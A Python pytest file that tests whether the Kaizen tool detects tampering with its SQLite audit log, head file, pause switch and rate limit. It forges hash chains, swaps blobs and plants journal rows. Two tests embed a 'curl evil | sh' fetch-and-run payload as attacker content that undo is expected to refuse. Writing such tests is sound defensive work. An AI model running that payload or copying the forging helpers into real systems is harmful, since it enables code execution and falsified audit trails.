"""Someone who can write .kaizen/ attacks the audit log, the pause switch and the rate limit.

The attacker here knows Kaizen's code (the canonical JSON, the chain) and edits the database
with sqlite3 directly; what they do not have is the user's key outside the project.
"""

from __future__ import annotations

import hashlib
import json
import sqlite3
import zlib
from pathlib import Path

from suggestions.apply.audit import AuditEntry
from tests.security import audit_support
from tests.security.audit_support import apply_changes, empty_database, kaizen

home = audit_support.home  # fixtures
logged = audit_support.logged


def _db(root: Path) -> sqlite3.Connection:
    return sqlite3.connect(root / ".kaizen" / "kaizen.db", isolation_level=None)


def _entries(db: sqlite3.Connection) -> list[AuditEntry]:
    cols = [r[1] for r in db.execute("PRAGMA table_info(audit)")]
    fields = set(AuditEntry.__dataclass_fields__)
    out = []
    for row in db.execute(f"SELECT {', '.join(cols)} FROM audit ORDER BY seq"):
        d = {c: v for c, v in zip(cols, row, strict=True) if c in fields}
        d["validation"] = json.loads(d["validation"])
        out.append(AuditEntry(**d))
    return out


def _rewrite_chain(root: Path, edit: dict[int, dict[str, object]]) -> None:
    """Edit entries and recompute every hash after them, the database's head and the head
    file beside it, the way a careful attacker would."""
    db = _db(root)
    prev = "0" * 64
    lines = []
    for e in _entries(db):
        d = {**e.to_dict(), **edit.get(e.seq, {}), "prev_hash": prev, "entry_hash": ""}
        forged = AuditEntry(**d)
        digest = forged.compute_hash()
        db.execute("UPDATE audit SET prev_hash=?, entry_hash=?, hash_before=?, title=? WHERE seq=?",
                   (prev, digest, forged.hash_before, forged.title, e.seq))
        lines.append(f"e {e.seq} {digest} {e.at!r} 0 unsigned\n")
        prev = digest
    db.execute("UPDATE meta SET value=? WHERE key='audit.head'", (f"{len(lines)}:{prev}",))
    db.close()
    head = root / ".kaizen" / "audit.head"
    if head.exists():
        head.write_text("".join(lines), encoding="utf-8")


def test_a_recomputed_chain_fails_verification(logged: Path) -> None:
    assert kaizen("audit", str(logged), "--verify").returncode == 0
    _rewrite_chain(logged, {2: {"title": "nothing to see here"}})
    r = kaizen("audit", str(logged), "--verify")
    assert r.returncode == 1, r.stdout + r.stderr
    assert "FAILED verification at entry #" in r.stdout
    assert "Traceback" not in r.stderr


def test_a_recomputed_chain_without_the_head_file_fails_too(logged: Path) -> None:
    (logged / ".kaizen" / "audit.head").unlink()
    _rewrite_chain(logged, {1: {"title": "forged"}})
    r = kaizen("audit", str(logged), "--verify")
    assert r.returncode == 1 and "entry #1" in r.stdout, r.stdout + r.stderr


def test_a_truncated_tail_with_its_head_is_detected(logged: Path) -> None:
    db = _db(logged)
    third = _entries(db)[1]
    db.execute("DELETE FROM audit WHERE seq=3")
    db.execute("UPDATE meta SET value=? WHERE key='audit.head'", (f"2:{third.entry_hash}",))
    db.close()
    head = logged / ".kaizen" / "audit.head"
    kept = [line for line in head.read_text().splitlines(keepends=True) if not line.startswith("e 3 ")]
    head.write_text("".join(kept))
    r = kaizen("audit", str(logged), "--verify")
    assert r.returncode == 1, r.stdout + r.stderr
    assert "newest entry #3 is missing" in r.stdout


def test_a_forged_blob_is_never_written_into_the_users_file(logged: Path) -> None:
    """Swap the content undo restores for the attacker's, and make the chain agree."""
    evil = b"import os\nos.system('curl evil | sh')\n"
    digest = hashlib.sha256(evil).hexdigest()
    db = _db(logged)
    db.execute("INSERT INTO audit_blobs(hash, data) VALUES(?, ?)", (digest, zlib.compress(evil)))
    db.close()
    _rewrite_chain(logged, {3: {"hash_before": digest}})
    before = (logged / "m.py").read_bytes()
    r = kaizen("undo", str(logged))
    assert (logged / "m.py").read_bytes() == before, "undo wrote the attacker's content"
    assert r.returncode != 0 and "Traceback" not in r.stderr, r.stderr
    assert "verif" in r.stderr


def test_a_swapped_blob_under_the_right_name_is_refused(logged: Path) -> None:
    """Replace the bytes of a genuine blob (its hash no longer matches): undo refuses."""
    db = _db(logged)
    (h,) = db.execute("SELECT hash_before FROM audit WHERE seq=3").fetchone()
    db.execute("UPDATE audit_blobs SET data=? WHERE hash=?", (zlib.compress(b"evil = 1\n"), h))
    db.close()
    before = (logged / "m.py").read_bytes()
    r = kaizen("undo", str(logged))
    assert (logged / "m.py").read_bytes() == before
    assert r.returncode != 0 and "Traceback" not in r.stderr


def test_an_emptied_database_is_reported_loudly(logged: Path) -> None:
    empty_database(logged)
    r = kaizen("audit", str(logged), "--verify")
    assert r.returncode == 1, r.stdout + r.stderr
    assert "emptied or replaced" in r.stdout and "#3" in r.stdout
    assert "--acknowledge-reset" in r.stderr


def test_a_deleted_database_is_reported_loudly(logged: Path) -> None:
    for p in (logged / ".kaizen").glob("kaizen.db*"):
        p.unlink()
    r = kaizen("audit", str(logged), "--verify")
    assert r.returncode == 1 and "emptied or replaced" in r.stdout, r.stdout + r.stderr


def test_a_database_replaced_with_an_older_copy_is_detected(logged: Path) -> None:
    state = logged / ".kaizen"
    db = _db(logged)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.close()
    old = (state / "kaizen.db").read_bytes()
    apply_changes(logged, 8)
    db = _db(logged)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.close()
    (state / "kaizen.db").write_bytes(old)  # roll back: entry #4 disappears, #1-#3 verify
    r = kaizen("audit", str(logged), "--verify")
    assert r.returncode == 1 and "#4" in r.stdout, r.stdout + r.stderr


def _preview(root: Path) -> dict[str, object]:
    r = kaizen("policy", str(root), "--preview", "--json")
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)  # type: ignore[no-any-return]


def test_emptying_the_database_keeps_the_pause_switch(logged: Path) -> None:
    assert kaizen("pause", str(logged)).returncode == 0
    empty_database(logged)
    assert kaizen("audit", str(logged), "--acknowledge-reset").returncode == 0
    assert _preview(logged)["paused"] is True
    assert kaizen("resume", str(logged)).returncode == 0
    assert _preview(logged)["paused"] is False


def test_emptying_the_database_stops_automatic_changes_until_acknowledged(logged: Path) -> None:
    empty_database(logged)
    preview = _preview(logged)
    assert preview["paused"] is True and "emptied or replaced" in str(preview["paused_reason"])
    r = kaizen("policy", str(logged), "--preview")
    assert "REFUSED: Kaizen's database was emptied or replaced" in r.stdout, r.stdout
    r = kaizen("resume", str(logged))
    assert "acknowledge" in r.stdout + r.stderr
    assert kaizen("audit", str(logged), "--acknowledge-reset").returncode == 0
    assert _preview(logged)["paused"] is False
    assert kaizen("audit", str(logged), "--verify").returncode == 0


def test_emptying_the_database_keeps_the_rate_limit_history(project: Path) -> None:
    (project / "m.py").write_text("".join(f"n{i} = {i}\n" for i in range(1, 11)))
    (project / "kaizen.toml").write_text('[policy]\nrate-limit = 5\n[[policy.rules]]\nname = "tidy"\n')
    apply_changes(project, 2, 4, rule="tidy")
    assert _preview(project)["applied_last_hour"] == 2
    empty_database(project)
    assert kaizen("audit", str(project), "--acknowledge-reset").returncode == 0
    assert _preview(project)["applied_last_hour"] == 2


def test_after_an_acknowledged_reset_the_chain_goes_on(logged: Path) -> None:
    empty_database(logged)
    assert kaizen("audit", str(logged), "--acknowledge-reset").returncode == 0
    apply_changes(logged, 8)
    r = kaizen("audit", str(logged), "--verify")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "#4" in kaizen("audit", str(logged)).stdout  # numbering continues after the lost #3
    assert kaizen("undo", str(logged)).returncode == 0  # the new entry is trusted and undoable


def test_an_edited_head_file_is_detected(logged: Path) -> None:
    head = logged / ".kaizen" / "audit.head"
    text = head.read_text()
    head.write_text(text.replace("e 3 ", "e 9 ", 1))
    r = kaizen("audit", str(logged), "--verify")
    assert r.returncode == 1 and "head" in r.stdout, r.stdout + r.stderr


def test_a_forged_journal_row_is_not_logged_nor_undone(logged: Path) -> None:
    """Plant an 'interrupted change' whose before-content is the attacker's: recovery would log
    (and sign) it, and undo would then write it."""
    evil = b"import os\nos.system('curl evil | sh')\n"
    evil_hash = hashlib.sha256(evil).hexdigest()
    current = (logged / "m.py").read_bytes()
    current_hash = hashlib.sha256(current).hexdigest()
    db = _db(logged)
    last = _entries(db)[-1]
    planted = {**last.to_dict(), "seq": 0, "prev_hash": "", "entry_hash": "",
               "hash_before": evil_hash, "hash_after": current_hash, "title": "harmless", "fingerprint": ""}
    planted.pop("mac", None)
    db.execute("INSERT INTO audit_blobs(hash, data) VALUES(?, ?)", (evil_hash, zlib.compress(evil)))
    cols = [r[1] for r in db.execute("PRAGMA table_info(audit_journal)")]
    values = {"path": "m.py", "hash_before": evil_hash, "hash_after": current_hash,
              "entries": json.dumps([planted]), "at": last.at + 1}
    if "seal" in cols:
        values["seal"] = "k:forged"
    db.execute(f"INSERT INTO audit_journal({', '.join(values)}) VALUES({', '.join('?' * len(values))})",
               list(values.values()))
    db.close()
    r = kaizen("audit", str(logged))
    assert "Traceback" not in r.stderr
    assert "harmless" not in r.stdout, "the planted change was logged"
    kaizen("undo", str(logged))
    assert (logged / "m.py").read_bytes() != evil


def test_the_key_is_private_and_outside_the_project(logged: Path, home: Path) -> None:
    key = home / "audit.key"
    assert key.stat().st_mode & 0o777 == 0o600 and home.stat().st_mode & 0o777 == 0o700
    assert not any(p.name == "audit.key" for p in logged.rglob("*"))
    (copy,) = (home / "heads").glob("*.head")  # the head records' copy outside the project
    assert "e 3 " in copy.read_text()


def test_a_log_signed_with_another_key_fails(logged: Path, tmp_path: Path) -> None:
    """Someone with their own Kaizen (their own key) rewrote the log: it verifies for nobody here."""
    r = kaizen("audit", str(logged), "--verify", env={"KAIZEN_HOME": str(tmp_path / "other-user")})
    assert r.returncode == 1 and "another key" in r.stdout, r.stdout + r.stderr


def test_acknowledging_sets_a_forged_head_file_aside(logged: Path) -> None:
    head = logged / ".kaizen" / "audit.head"
    head.write_text(head.read_text().replace("e 3 ", "e 9 ", 1))
    assert kaizen("audit", str(logged), "--verify").returncode == 1
    r = kaizen("audit", str(logged), "--acknowledge-reset")
    assert r.returncode == 0, r.stdout + r.stderr
    assert list((logged / ".kaizen").glob("audit.head.rejected-*"))
    assert kaizen("audit", str(logged), "--verify").returncode == 0
